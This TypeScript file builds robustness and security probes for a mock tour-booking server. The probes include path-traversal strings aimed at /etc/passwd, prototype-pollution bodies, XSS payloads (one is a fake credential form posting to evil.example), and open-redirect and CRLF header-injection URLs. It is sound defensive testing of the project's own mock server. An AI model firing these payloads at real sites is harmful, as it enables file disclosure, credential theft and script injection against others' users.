import { type CallDefinition, callNames, calls, fullPath, OrderStatus } from '@tours/contract';
import type { State } from '@tours/mock-server/domain';
import { controlCases, controlRoutes } from '@tours/mock-server/testing/fuzz-control';
import { fieldHints, fuzzCases } from '@tours/mock-server/testing/fuzz-requests';
import fc from 'fast-check';
import type { FastifyInstance, InjectOptions } from 'fastify';
import type { Probe } from './probe-http.js';

export interface Category {
  name: string;
  probes: Probe[];
}

/** The probe's batches draw from the fuzz suite's generators with a fixed seed, so a run is repeatable. */
const SEED = 20_260_801;
const ALL_CALLS: CallDefinition[] = callNames.map((name) => calls[name]);
const JSON_TYPE = { 'content-type': 'application/json' };
const FORM_TYPE = { 'content-type': 'application/x-www-form-urlencoded' };

function fromInject({ method, url, headers, payload }: InjectOptions): Probe {
  const body = payload === undefined || typeof payload === 'string' || Buffer.isBuffer(payload) ? payload : JSON.stringify(payload);
  const flat = Object.fromEntries(Object.entries(headers ?? {}).map(([key, value]) => [key, String(value)]));
  return { method: String(method ?? 'GET'), path: typeof url === 'string' ? url : '/', headers: flat, body };
}

/** Per call: the fuzz suite's mutated payloads and transport junk (bad JSON, raw bytes, no body, other method). */
function malformed(state: State, token: string): Probe[] {
  const hints = fieldHints(state, new Date());
  return ALL_CALLS.flatMap((call) =>
    fc
      .sample(fuzzCases(call, hints, token), { seed: SEED, numRuns: 80 })
      .filter(({ kind }) => kind !== 'from schema' && kind !== 'multipart' && !kind.startsWith('deeply nested'))
      .slice(0, 25)
      .map(({ request }) => fromInject(request)),
  );
}

const nested = (depth: number, closed = true) => `${'['.repeat(depth)}${closed ? ']'.repeat(depth) : ''}`;
const DEPTHS = [33, 1_000, 100_000];

function deeplyNested(token: string, routes: { url: string; method: string }[]): Probe[] {
  const api = ALL_CALLS.flatMap((call) => {
    const path = fullPath(call);
    const headers = { authorization: token };
    return [
      ...DEPTHS.map((depth) => ({ method: 'POST', path, headers: { ...headers, ...JSON_TYPE }, body: nested(depth) })),
      { method: 'POST', path, headers: { ...headers, ...JSON_TYPE }, body: nested(100_000, false) },
      { method: 'POST', path, headers: { ...headers, ...FORM_TYPE }, body: new URLSearchParams({ keyword: nested(100_000) }).toString() },
    ];
  });
  const control = routes.flatMap(({ url, method }) =>
    DEPTHS.map((depth) => ({ method, path: url.replace(/:[a-z]+/g, 'default'), headers: JSON_TYPE, body: `{"a":${nested(depth)}}` })),
  );
  return [...api, ...control];
}

function hostileControl(app: FastifyInstance, exported: Record<string, unknown>): Probe[] {
  return fc.sample(controlCases(controlRoutes(app), exported), { seed: SEED, numRuns: 600 }).map(({ request }) => fromInject(request));
}

const PROTOTYPE_NAMES = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf'];

function prototypeKeys(token: string): Probe[] {
  const headers = { authorization: token };
  const api = ALL_CALLS.flatMap((call): Probe[] => [
    { method: 'POST', path: fullPath(call), headers: { ...headers, ...JSON_TYPE }, body: '{"__proto__":{"polluted":true}}' },
    {
      method: 'POST',
      path: fullPath(call),
      headers: { ...headers, ...JSON_TYPE },
      body: '[{"constructor":{"prototype":{"polluted":true}}}]',
    },
    {
      method: 'POST',
      path: fullPath(call),
      headers: { ...headers, ...FORM_TYPE },
      body: '__proto__[polluted]=1&constructor[prototype][polluted]=1',
    },
    { method: call.method, path: `${fullPath(call)}?__proto__[polluted]=1&constructor=1`, headers },
  ]);
  const control = PROTOTYPE_NAMES.flatMap((name): Probe[] => [
    { method: 'POST', path: '/__mock/pact/state', headers: JSON_TYPE, body: JSON.stringify({ state: name }) },
    { method: 'DELETE', path: `/__mock/faults/${name}`, headers: {} },
    { method: 'DELETE', path: `/__mock/worlds/${name}`, headers: {} },
    { method: 'POST', path: `/__mock/orders/${name}/complete`, headers: {} },
    { method: 'GET', path: '/__mock/clock', headers: { 'x-mock-world': name } },
    { method: 'POST', path: '/rest/api/product/search', headers: { ...FORM_TYPE, cookie: `mock-world=${name}` }, body: '' },
    { method: 'POST', path: '/__mock/faults', headers: JSON_TYPE, body: JSON.stringify({ call: name, delayMs: 1 }) },
  ]);
  return [...api, ...control];
}

const OVER_CAP = 'x'.repeat(1024 * 1024 + 16);

function oversized(token: string): Probe[] {
  const api = ALL_CALLS.flatMap((call) => [
    { method: 'POST', path: fullPath(call), headers: { authorization: token, ...FORM_TYPE }, body: `keyword=${OVER_CAP}` },
    {
      method: 'POST',
      path: fullPath(call),
      headers: { authorization: token, ...JSON_TYPE },
      body: JSON.stringify([{ content: OVER_CAP }]),
    },
  ]);
  return [
    ...api,
    // A length over the import limit is refused from the header, before any byte is read.
    { method: 'PUT', path: '/__mock/state', headers: { ...JSON_TYPE, 'content-length': String(600 * 1024 * 1024) }, body: '{}' },
    { method: 'POST', path: '/__mock/clock/advance', headers: JSON_TYPE, body: JSON.stringify({ days: 1, pad: OVER_CAP }) },
    { method: 'GET', path: `/rest/api/product/detail?id=${'9'.repeat(200_000)}`, headers: {} },
  ];
}

const CONTENT_TYPES = ['text/plain', 'application/xml', 'multipart/form-data', 'application/json; charset=utf-16', 'image/png', ''];

function wrongContentTypes(token: string): Probe[] {
  return ALL_CALLS.flatMap((call) =>
    [...CONTENT_TYPES, call.encoding === 'json' ? FORM_TYPE['content-type'] : JSON_TYPE['content-type']].map((type) => ({
      method: 'POST',
      path: fullPath(call),
      headers: { authorization: token, 'content-type': type },
      body: '{"orderId":1,"keyword":"x"}',
    })),
  );
}

const TRICK_PATHS = [
  '/rest/api/../__mock/reset',
  '/rest/api/%2e%2e/__mock/reset',
  '/rest/api/..%2f__mock%2freset',
  '//rest//api//product//search',
  '/rest/api/product/search%00',
  '/rest/api/product/search/',
  '/REST/API/PRODUCT/SEARCH',
  '/rest/api/product/search;jsessionid=1',
  '/media/../../etc/passwd',
  '/media/%2e%2e/%2e%2e/etc/passwd',
  '/media/uploads/..%2F..%2Fpackage.json',
  '/media/uploads/%00.png',
  '/media/tours/1-1.svg/..%2f..%2f..%2fpackage.json',
  '/docs/../package.json',
  '/docs/%2e%2e/package.json',
  '/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd',
  '/__mock/worlds/..%2f..%2f/enter',
  '/__mock/worlds/%00/enter',
  '/__mock/worlds/default/enter?next=//evil.example',
  '/mock-paypal/checkout?token=../../etc/passwd',
  '/mock-paypal/approve?token=%00',
  `/media/${'a/'.repeat(2_000)}x.svg`,
  `/rest/api/${'x'.repeat(8_000)}`,
  '/rest/api/product/search?pageNo=1&pageNo=2&pageNo[]=3',
  '/\\..\\..\\etc\\passwd',
];

function pathTricks(): Probe[] {
  return TRICK_PATHS.flatMap((path) => ['GET', 'POST', 'DELETE'].map((method) => ({ method, path, headers: {} })));
}

/** Cheap checks of the control plane's Host and Origin guards: the numbers here only count 5xx. */
function foreignHostOrOrigin(): Probe[] {
  const origins = ['http://evil.example', 'null', 'http://127.0.0.1.evil.example'];
  const hosts = ['evil.example', '127.0.0.1.evil.example', 'localhost.evil.example:80'];
  return ['/__mock/reset', '/__mock/clock/advance', '/__mock/faults'].flatMap((path) => [
    ...origins.map((origin) => ({ method: 'POST', path, headers: { ...JSON_TYPE, origin }, body: '{}' })),
    ...hosts.map((host) => ({ method: 'POST', path, headers: { ...JSON_TYPE, host }, body: '{}' })),
  ]);
}

const HOSTILE_HTML = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<form action="https://evil.example/steal"><input name=password type=password><button>Log in</button></form>',
  '<div style="position:fixed;inset:0;z-index:9999">covered</div><style>body{outline:9px solid red}</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<img src="https://evil.example/t.png">',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '"><script>alert(1)</script>',
  "'';!--\"<XSS>=&{()}",
  '\u0000<scr\u0000ipt>alert(1)</script>',
  '<details open ontoggle=alert(1)>',
];

/** Hostile HTML in everything a customer or an applicant writes; the server stores text, the shop sanitizes it. */
function hostileHtml(state: State, token: string): Probe[] {
  const merchantId = state.merchants[0]?.id ?? 1;
  const headers = { ...FORM_TYPE, authorization: token };
  const form = (fields: Record<string, string>) => new URLSearchParams(fields).toString();
  return HOSTILE_HTML.flatMap((html) => [
    {
      method: 'POST',
      path: '/rest/api/member/my/message/content/create',
      headers,
      body: form({ merchantId: String(merchantId), content: html }),
    },
    {
      method: 'POST',
      path: '/rest/api/member/product/comment/add',
      headers: { ...JSON_TYPE, authorization: token },
      body: JSON.stringify([
        { guideScores: 5, transportationScores: 5, priceScores: 5, content: html, picUrls: '', orderId: 1, orderItemId: 1 },
      ]),
    },
    { method: 'POST', path: '/rest/api/member/update', headers, body: form({ nickname: html }) },
    { method: 'POST', path: '/rest/api/product/search', headers, body: form({ pageNo: '1', pageSize: '10', keyword: html }) },
  ]);
}

const HOSTILE_RETURNS = [
  '//evil.example/',
  '/\\evil.example/',
  'https://evil.example/orderInfo/1',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '/orderInfo/1\r\nSet-Cookie: a=b',
  '/orderInfo/1?who=Zoë 東京',
  'http://user:pass@127.0.0.1/',
];

/** pay/submit with return addresses elsewhere (open redirect), header injection and non-ASCII text. */
function hostileReturnUrls(state: State, token: string, userId: number | undefined): Probe[] {
  const unpaid = state.orders.find((o) => o.userId === userId && o.status === OrderStatus.Unpaid);
  const headers = { ...FORM_TYPE, authorization: token };
  return HOSTILE_RETURNS.flatMap((url) =>
    ['quick', 'card'].map((payMode) => ({
      method: 'POST',
      path: '/rest/api/trade/order/pay/submit',
      headers,
      body: new URLSearchParams({
        id: String(unpaid?.payOrderId ?? 1),
        payMode,
        returnUrl: url,
        cancelUrl: url,
        ...(payMode === 'card'
          ? { cardNumber: '4000000000000259', cardExpiry: '2099-12', cardSecurityCode: '123', cardName: 'Probe' }
          : {}),
      }).toString(),
    })),
  );
}

export function categories(
  app: FastifyInstance,
  state: State,
  exported: Record<string, unknown>,
  token: string,
  demoUserId: number | undefined,
): Category[] {
  return [
    { name: 'malformed bodies per call', probes: malformed(state, token) },
    { name: 'deeply nested JSON', probes: deeplyNested(token, controlRoutes(app)) },
    { name: 'hostile control-plane bodies', probes: hostileControl(app, exported) },
    { name: 'prototype keys', probes: prototypeKeys(token) },
    { name: 'oversized bodies', probes: oversized(token) },
    { name: 'wrong content types', probes: wrongContentTypes(token) },
    { name: 'path tricks', probes: pathTricks() },
    { name: 'foreign Host / Origin (control plane)', probes: foreignHostOrOrigin() },
    { name: 'hostile HTML in what customers write', probes: hostileHtml(state, token) },
    { name: 'hostile wallet return URLs', probes: hostileReturnUrls(state, token, demoUserId) },
  ];
}
